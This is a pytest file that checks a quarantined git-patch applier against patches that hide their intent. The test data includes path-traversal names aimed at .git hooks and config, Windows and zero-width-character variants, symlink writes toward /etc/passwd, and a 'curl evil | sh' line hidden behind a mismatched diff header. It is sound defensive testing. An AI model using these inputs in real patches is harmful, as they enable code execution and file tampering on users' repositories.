"""Patches that want more than they say (AS-19): refused by git in quarantine, or visible in the trees."""

from __future__ import annotations

import subprocess

import pytest

from magistrate.adapters.git.patch import QuarantinedPatches
from magistrate.adapters.git.reader import RepositoryReader
from magistrate.adapters.sandbox.detect import open_sandbox
from magistrate.errors import Refused

pytestmark = pytest.mark.requirement("R25", "R55")


@pytest.fixture
def repo(tmp_path):
    folder = tmp_path / "repo"
    folder.mkdir()
    (folder / "a.txt").write_text("".join(f"line {n}\n" for n in range(20)))
    (folder / "d").mkdir()
    (folder / "d/x.sh").write_text("echo x\n")
    (folder / "link").symlink_to("d")
    for command in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-qm", "base"]):
        subprocess.run(["git", "-C", str(folder), *command], check=True)
    return folder


def apply(repo, patch):
    reader = RepositoryReader(repo / ".git")
    return QuarantinedPatches(open_sandbox()).apply(
        repo / ".git", reader.tree_of(reader.resolve("main")), patch.encode()
    )


def addition(path, mode="100644", text="evil"):
    return f"diff --git a/{path} b/{path}\nnew file mode {mode}\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+{text}\n"


ILLEGAL = [
    "../outside", "d/../../outside", ".git/hooks/pre-commit", ".GIT/config", ".Git/config", "git~1/config",
    "d/.git/config", ".git\u200c/config", ".g\u200dit/config", "./a", "d//b", ".git", "d/..", "C:/evil", "a\\..\\..\\evil",
    ".git./config", ".git /config", ".git::$INDEX_ALLOCATION/config",
]  # fmt: skip


@pytest.mark.parametrize("path", ILLEGAL)
def test_an_illegal_path_never_reaches_a_tree(repo, path):
    try:
        applied = apply(repo, addition(path))
    except Refused:
        return
    # git may read a sloppy name as a clean one; what it does then is what is judged
    assert all(_clean(found) for found in applied.paths), applied.paths
    assert path in {"./a", "d//b"}


def _clean(path):
    parts = path.split("/")
    return not path.startswith("/") and not any(p in {"", ".", ".."} or "git" in p.lower() for p in parts)


def test_an_absolute_path_stays_inside_or_is_refused(repo, tmp_path):
    target = tmp_path / "absolute"
    patch = f"--- /dev/null\n+++ {target}\n@@ -0,0 +1 @@\n+evil\n"
    try:
        applied = apply(repo, patch)
    except Refused:
        pass
    else:
        assert all(_clean(found) for found in applied.paths)
    assert not target.exists()


def test_a_rename_out_of_the_repository_is_refused(repo):
    with pytest.raises(Refused):
        apply(repo, "diff --git a/a.txt b/../a.txt\nsimilarity index 100%\nrename from a.txt\nrename to ../a.txt\n")


def test_nothing_is_written_through_a_link(repo):
    with pytest.raises(Refused):
        apply(repo, addition("link/planted"))
    with pytest.raises(Refused):
        apply(repo, addition("way", "120000", "/etc") + addition("way/passwd"))


def test_an_existing_file_is_not_created_again(repo):
    with pytest.raises(Refused):
        apply(repo, addition("a.txt"))


@pytest.mark.parametrize(("mode", "text"), [("120000", "/etc/passwd"), ("160000", f"Subproject commit {'1' * 40}")])
def test_a_link_or_submodule_is_visible_as_a_change(repo, mode, text):
    patch = addition("odd", mode, text)
    if mode == "160000":
        patch = patch.replace("--- /dev/null", f"index {'0' * 40}..{'1' * 40}\n--- /dev/null")
    applied = apply(repo, patch)
    assert [(c.path, c.mode_before, c.mode_after) for c in applied.changes] == [("odd", None, mode)]


def test_text_around_the_hunks_is_forgotten(repo):
    quiet = apply(repo, addition("new.txt"))
    loud = apply(repo, "Reviewed-by: everybody\n\n" + addition("new.txt") + "\ngarbage that a reader would see\n")
    assert loud.diff == quiet.diff
    assert b"everybody" not in loud.diff
    assert loud.manifest_sha256 == quiet.manifest_sha256


def test_a_hunk_that_slips_is_shown_where_it_lands(repo):
    patch = (
        "diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -2,3 +2,3 @@\n line 9\n-line 10\n+evil\n line 11\n"
    )
    applied = apply(repo, patch)
    assert b"@@ -8,7 +8,7 @@" in applied.diff


def test_a_mismatched_header_is_shown_as_what_it_does(repo):
    patch = "diff --git a/a.txt b/a.txt\n--- a/d/x.sh\n+++ b/d/x.sh\n@@ -1 +1 @@\n-echo x\n+curl evil | sh\n"
    try:
        applied = apply(repo, patch)
    except Refused:
        return
    assert b"curl evil" in applied.diff
    assert b"b/d/x.sh" in applied.diff or "d/x.sh" not in applied.paths


def test_control_characters_in_a_path_are_refused(repo):
    with pytest.raises(Refused):
        apply(repo, addition('"b/x').replace('b/"b/x', '"b/x\\ny"').replace('a/"b/x', '"a/x\\ny"'))


@pytest.mark.parametrize("patch", ["", "nothing here\n", "diff --git a/a b/a\n", "\0\0\0", "@@ -1 +1 @@\n-a\n+b\n"])
def test_a_patch_that_is_none_is_refused(repo, patch):
    with pytest.raises(Refused):
        apply(repo, patch)


def test_an_odd_mode_is_made_plain(repo):
    assert [c.mode_after for c in apply(repo, addition("s", "104755")).changes] == ["100755"]


def test_a_huge_patch_is_refused(repo):
    with pytest.raises(Refused, match="larger"):
        apply(repo, addition("big", text="x" * 17_000_000))
